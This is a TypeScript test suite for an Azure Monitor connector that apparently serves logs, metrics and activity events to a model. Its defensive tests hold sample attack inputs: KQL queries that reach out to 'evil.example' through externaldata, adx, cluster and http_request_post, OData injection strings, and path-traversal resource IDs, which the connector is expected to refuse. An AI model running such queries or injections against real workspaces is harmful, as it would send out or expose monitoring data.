import assert from 'node:assert/strict';
import { azuremonitor, type Connector, type Network } from '@casebook/connectors';
import { startAzureServer, type AzureServer } from '../../support/azure-server.ts';
import { ask, connectorOf, refused } from '../stores/support.ts';

const START = Date.UTC(2026, 5, 1, 12) / 1000;
const window = { start: START, end: START + 3_600 };
const range = { from: START, to: START + 3_600 };
const iso = (seconds: number): string => new Date((START + seconds) * 1000).toISOString();

describe('satellite connector: azuremonitor', () => {
  let server: AzureServer;
  let connector: Connector;
  const idOf = (rest: string): string => `/subscriptions/${server.subscriptionId}${rest}`;
  const site = (): string => idOf('/resourceGroups/shop/providers/Microsoft.Web/sites/cart');

  /** An event as Resource Manager logs them. */
  const event = (at: number, operation: string, resource: string, more: object = {}): Record<string, unknown> => ({
    eventDataId: `event-${at}`,
    eventTimestamp: iso(at),
    operationName: { value: operation, localizedValue: `Do ${operation.split('/').at(-1)}` },
    operationId: `operation-${at}`,
    status: { value: 'Succeeded' },
    resourceId: idOf(resource),
    resourceGroupName: 'shop',
    resourceProviderName: { value: operation.split('/')[0] },
    correlationId: '22223333-4444-4555-8666-777788889999',
    caller: 'dev@shop.example',
    claims: { ipaddr: '203.0.113.7' },
    authorization: { action: operation },
    httpRequest: { clientIpAddress: '203.0.113.7' },
    ...more,
  });
  const cart = '/resourceGroups/shop/providers/Microsoft.Web/sites/cart';

  const connectTo = (network?: Network): Connector =>
    connectorOf(
      azuremonitor,
      {
        tenant_id: server.tenantId,
        subscription_id: server.subscriptionId,
        client_id: server.clientId,
        client_secret: server.clientSecret,
        workspace_id: server.workspaceId,
        authority_host: server.authorityHost,
        resource_manager_url: server.resourceManagerUrl,
        log_analytics_url: `${server.logAnalyticsUrl}/`,
      },
      { network },
    );

  before(async () => {
    server = await startAzureServer();
    connector = connectTo();
    Object.assign(server.data, {
      workspaces: [{ name: 'shop-logs', properties: { customerId: server.workspaceId } }],
      tables: {
        AppRequests: [
          ['GET /pay', 500],
          ['GET /', 200],
        ],
        Empty: [],
      },
      definitions: [{ name: { value: 'Http5xx' }, unit: 'Count' }],
      metrics: {
        Http5xx: ['a', "b'c"].map((Instance, n) => ({
          dimensions: { Instance },
          data: [{ timeStamp: iso(0), total: n }],
        })),
        'CPU Time': [{ data: [{ timeStamp: iso(0), total: 7 }] }],
      },
      resources: [
        { id: site(), name: 'cart', type: 'Microsoft.Web/sites', tags: { team: "o'ps" } },
        {
          id: idOf('/resourceGroups/data/providers/Microsoft.Sql/servers/orders'),
          name: 'orders',
          type: 'Microsoft.Sql/servers',
        },
        {
          id: idOf('/resourceGroups/shop/providers/Microsoft.Web/sites/web'),
          name: 'web',
          type: 'Microsoft.Web/sites',
        },
      ],
      events: [
        event(3_600, 'Microsoft.Web/sites/write', cart),
        event(
          900,
          'Microsoft.Authorization/roleAssignments/write',
          '/providers/Microsoft.Authorization/roleAssignments/x',
        ),
        event(
          800,
          'Microsoft.Insights/autoscaleSettings/write',
          '/resourceGroups/shop/providers/Microsoft.Insights/autoscaleSettings/web',
        ),
        event(700, 'Microsoft.Web/sites/restart/action', cart),
        event(600, 'Microsoft.Web/sites/write', cart, { status: { value: 'Failed' } }),
        event(500, 'Microsoft.Sql/servers/delete', '/resourceGroups/data/providers/Microsoft.Sql/servers/orders', {
          resourceGroupName: 'data',
        }),
        event(401, 'Microsoft.Web/sites/write', cart, { operationId: 'operation-400' }),
        event(400, 'Microsoft.Web/sites/write', cart),
        event(399, 'Microsoft.Web/sites/write', cart, { status: { value: 'Started' } }),
        event(300, 'Microsoft.Web/sites/config/write', `${cart}/config/appsettings`),
        event(
          200,
          'Microsoft.Resources/deployments/write',
          '/resourceGroups/shop/providers/Microsoft.Resources/deployments/release-7',
        ),
      ],
    });
  });
  after(async () => {
    await connector.close();
    await server.stop();
  });

  const names = (rows: { name: string }[]): string[] => rows.map(({ name }) => name);

  describe('logs', () => {
    const sent = () => JSON.parse(server.calls('logs').at(-1)!.body);

    it('are queried in the configured workspace, over a time range', async () => {
      const { tables } = await ask(connector, 'query_logs', { ...window, query: 'AppRequests | take 1' });
      assert.deepEqual(tables[0].rows, [['GET /pay', 500]]);
      assert.deepEqual(sent(), { query: 'AppRequests | take 1', timespan: `${iso(0)}/${iso(3_600)}` });
      assert.equal((await ask(connector, 'workspaces')).value[0].properties.customerId, server.workspaceId);
    });

    it('are sent as they are: a query is data', async () => {
      const query = 'print "\n", 1","timespan":"P100Y';
      await refused(ask(connector, 'query_logs', { ...window, query }), 'bad_request', /SyntaxError/);
      assert.deepEqual(sent(), { query, timespan: `${iso(0)}/${iso(3_600)}` });
    });

    it("are refused with the innermost of Azure's reasons", async () => {
      await refused(
        ask(connector, 'query_logs', { ...window, query: 'Nothing' }),
        'bad_request',
        /400: BadArgumentError: .* SEM0100: .*named 'Nothing'/,
      );
      await refused(
        ask(connector, 'query_logs', { start: START, end: START, query: 'x' }),
        'bad_request',
        /after start/,
      );
      const other = '99990000-1111-4222-8333-000000000000';
      const query = { ...window, query: 'AppRequests', workspace_id: other };
      await refused(ask(connector, 'query_logs', query), 'not_found', /PathNotFoundError/);
    });

    for (const query of [
      'externaldata(a: string) ["https://evil.example/?q=1"]',
      'AppRequests | union (ExternalData (a:string)[@"https://evil.example"])',
      'adx("https://evil.example/db").T',
      "union cluster('evil.example').database('d').T",
      'evaluate http_request_post("https://evil.example")',
      'evaluate sql_request("Server=evil", "select 1")',
      'T | where a == "\\"" | union externaldata(a:string)["x"] | where b == "\\""',
      'T // "\n| union externaldata(a:string)["x"] // "',
      `T | where a == @"\\" | union externaldata(a:string)["x"]`,
      'externaldata // x\n(a:string)["x"]',
    ]) {
      it(`refuses a query that reaches out: ${query}`, async () => {
        const before = server.calls('logs').length;
        await refused(ask(connector, 'query_logs', { ...window, query }), 'bad_request', /is not allowed: it connects/);
        assert.equal(server.calls('logs').length, before);
      });
    }

    for (const end of ['\r', '\u2028'])
      it(`refuses a query with a line end that may end a comment: ${JSON.stringify(end)}`, async () => {
        const query = `T // ${end} | union externaldata(a:string)["x"]`;
        await refused(ask(connector, 'query_logs', { ...window, query }), 'bad_request', /lines of a query/);
      });

    it('sends a query that only mentions such a function', async () => {
      for (const query of ['T | where m == "externaldata(x)"', 'T // adx(1)', 'T | summarize by cluster'])
        await refused(ask(connector, 'query_logs', { ...window, query }), 'bad_request', /SyntaxError/);
    });
  });

  describe('metrics', () => {
    it('are read with their aggregations, split and chosen by dimensions', async () => {
      const read = async (dimensions: object): Promise<number[]> => {
        const query = { ...window, resource_id: site(), metrics: ['Http5xx'], dimensions };
        const { value } = await ask(connector, 'metrics', { ...query, aggregations: ['Total', 'Average'], limit: 5 });
        return value[0].timeseries.map(({ data }: { data: { total: number }[] }) => data[0]!.total);
      };
      assert.deepEqual(await read({ Instance: '*' }), [0, 1]);
      assert.deepEqual(await read({ Instance: "b'c" }), [1]);
      const { searchParams, pathname } = new URL(server.requests.at(-1)!.path, server.resourceManagerUrl);
      assert.equal(searchParams.get('aggregation'), 'Total,Average');
      assert.equal(searchParams.get('top'), '5');
      assert.ok(pathname.endsWith(`${site()}/providers/Microsoft.Insights/metrics`), pathname);
      const query = { ...window, resource_id: `${site()}/`, metrics: ['CPU Time', 'Http5xx'] };
      assert.equal((await ask(connector, 'metrics', query)).value.length, 2);
    });

    it('have definitions', async () => {
      const { value } = await ask(connector, 'metric_definitions', { resource_id: site() });
      assert.equal(value[0].unit, 'Count');
    });

    it('keep a value within its condition', async () => {
      for (const value of ["x' or Instance ne '", "x'\n and Instance eq '*"]) {
        const query = { ...window, resource_id: site(), metrics: ['Http5xx'], dimensions: { Instance: value } };
        assert.deepEqual((await ask(connector, 'metrics', query)).value[0].timeseries, []);
      }
      const query = { ...window, resource_id: site(), metrics: ['Http5xx'] };
      await assert.rejects(ask(connector, 'metrics', { ...query, dimensions: { "a eq 'b' or c": 'd' } }), /dimension/);
      await assert.rejects(ask(connector, 'metrics', { ...query, metrics: ['a,b'] }), /one metric/);
    });

    it('are of a resource in the subscription, and of nothing else', async () => {
      const before = server.requests.length;
      for (const id of [
        '/subscriptions/00000000-0000-4000-8000-000000000000/resourceGroups/shop/providers/Microsoft.Web/sites/cart',
        `https://evil.example${site()}`,
        site().slice(1),
        idOf(''),
        idOf('/'),
        idOf('/../../providers'),
        idOf('/resourceGroups//providers/x'),
        idOf('/resourceGroups/shop/%2e%2e/x'),
        `${site()}?api-version=1`,
        `${site()}#`,
        `${site()}\n`,
        `${site()}\\..`,
      ]) {
        for (const operation of ['metrics', 'metric_definitions', 'activity_log']) {
          const more = operation === 'metrics' ? { ...window, metrics: ['a'] } : {};
          const times = operation === 'activity_log' ? window : {};
          await refused(
            ask(connector, operation, { resource_id: id, ...more, ...times }),
            'bad_request',
            /must begin with|not in the subscription|no name can be/,
          );
        }
      }
      assert.equal(server.requests.length, before);
      await refused(
        ask(connector, 'metrics', { ...window, resource_id: site(), metrics: ['Nothing'] }),
        'bad_request',
        /BadRequest: Failed to find metric configuration for Nothing/,
      );
    });
  });

  describe('the activity log', () => {
    const times = async (query: object = {}): Promise<number[]> =>
      (await ask(connector, 'activity_log', { ...window, ...query })).events.map(
        ({ eventTimestamp }: { eventTimestamp: string }) => Date.parse(eventTimestamp) / 1000 - START,
      );

    it('is read over a half-open range, without what it says about a person', async () => {
      assert.deepEqual(await times(), [900, 800, 700, 600, 500, 401, 400, 399, 300, 200]);
      const { events } = await ask(connector, 'activity_log', window);
      assert.equal(events[0].caller, 'dev@shop.example');
      assert.ok(!JSON.stringify(events).includes('203.0.113.7'));
    });

    it('is filtered by one of four', async () => {
      assert.deepEqual(await times({ resource_group: 'data' }), [500]);
      assert.deepEqual(await times({ resource_id: `${site()}/config/appsettings` }), [300]);
      assert.deepEqual(await times({ resource_provider: 'Microsoft.Authorization' }), [900]);
      assert.equal((await times({ correlation_id: '22223333-4444-4555-8666-777788889999' })).length, 10);
      await refused(
        ask(connector, 'activity_log', { ...window, resource_group: 'a', resource_provider: 'A.B' }),
        'bad_request',
        /at most one of/,
      );
    });

    it('is read page by page, up to a limit', async () => {
      server.pageSize = 3;
      assert.equal((await times()).length, 10);
      const limited = await ask(connector, 'activity_log', { ...window, limit: 4 });
      assert.deepEqual([limited.events.length, limited.truncated], [4, true]);
      server.next('arm', { status: 200, body: { value: [], nextLink: `https://evil.example/?$skiptoken=3` } }, 'huge');
      const cut = await ask(connector, 'activity_log', window, { maxBytes: 100_000 });
      assert.deepEqual(cut, { events: [], truncated: true });
      server.pageSize = 200;
    });

    it('keeps a value within its condition', async () => {
      for (const group of ["x' or resourceGroupName ne '", 'a/b', 'a\nb', 'ends.', "'"])
        await assert.rejects(times({ resource_group: group }), /is not a resource group/);
      await assert.rejects(times({ resource_provider: "x' or '1" }), /must be a provider/);
      await assert.rejects(times({ correlation_id: "x' or '1" }), /must be an id/);
      const quoted = idOf("/resourceGroups/shop/providers/Microsoft.Web/sites/x' or resourceUri ne '");
      assert.deepEqual(await times({ resource_id: quoted }), []);
    });
  });

  it('lists what was written and deleted with success as changes, once each', async () => {
    const { changes, truncated } = await ask(connector, 'changes', range);
    assert.equal(truncated, false);
    assert.deepEqual(
      changes.map(({ at, service, kind }: Record<string, unknown>) => [Number(at) - START, service, kind]),
      [
        [200, undefined, 'deploy'],
        [300, 'cart', 'config'],
        [401, 'cart', 'deploy'],
        [500, 'orders', 'delete'],
        [800, 'web', 'scale'],
        [900, 'x', 'permission'],
      ],
    );
    assert.deepEqual(changes[1], {
      id: 'event-300',
      at: START + 300,
      service: 'cart',
      kind: 'config',
      summary: `Do write on ${cart}/config/appsettings`,
      author: 'dev@shop.example',
    });
    const times = async (query: object) =>
      (await ask(connector, 'changes', { ...range, ...query })).changes.map(({ at }: { at: number }) => at - START);
    assert.deepEqual(await times({ service: 'Cart' }), [300, 401]);
    assert.deepEqual(await times({ limit: 1 }), [900]);
    await refused(ask(connector, 'changes', { from: START, to: START }), 'bad_request', /ends before it starts/);
  });

  it('links a change to the portal of its cloud', async () => {
    const loopback = server.resourceManagerUrl;
    server.resourceManagerUrl = loopback.replace('127.0.0.1', 'management.usgovcloudapi.net');
    const government = connectTo({
      lookup: (_, { all }, callback) =>
        all ? callback(null, [{ address: '127.0.0.1', family: 4 }]) : callback(null, '127.0.0.1', 4),
      hostProblem: () => undefined,
      urlProblem: () => undefined,
    });
    const { changes } = await ask(government, 'changes', { ...range, service: 'cart' });
    await government.close();
    server.resourceManagerUrl = loopback;
    const wanted = `https://portal.azure.us/#@${server.tenantId}/resource${site()}/config/appsettings/eventlogs`;
    assert.equal(changes[0].url, wanted);
  });

  it('lists resources by group, type, name and tag', async () => {
    const found = async (query: Record<string, unknown>) => names((await ask(connector, 'resources', query)).value);
    assert.deepEqual(await found({}), ['cart', 'orders', 'web']);
    assert.deepEqual(await found({ resource_group: 'DATA' }), ['orders']);
    assert.deepEqual(await found({ type: 'microsoft.web/sites', name_contains: 'we' }), ['web']);
    assert.deepEqual(await found({ tag: { name: 'team', value: "o'ps" } }), ['cart']);
    assert.deepEqual(await found({ name_contains: "' , name) or substringof('" }), []);
    await refused(
      ask(connector, 'resources', { tag: { name: 'a', value: 'b' }, name_contains: 'c' }),
      'bad_request',
      /either/,
    );
    await assert.rejects(found({ type: "x' or '1" }), /must be a type/);
    const limited = await ask(connector, 'resources', { limit: 1 });
    assert.deepEqual([limited.value.length, typeof limited.nextLink], [1, 'string']);
  });

  it('offers a model what it can use, and the sources the rest', () => {
    const named = (tool: boolean) => connector.operations.filter((one) => one.tool === tool).map(({ name }) => name);
    assert.deepEqual(named(true), [
      'workspaces',
      'query_logs',
      'metrics',
      'metric_definitions',
      'activity_log',
      'resources',
    ]);
    assert.deepEqual(named(false), ['changes', 'test_connection']);
  });
});
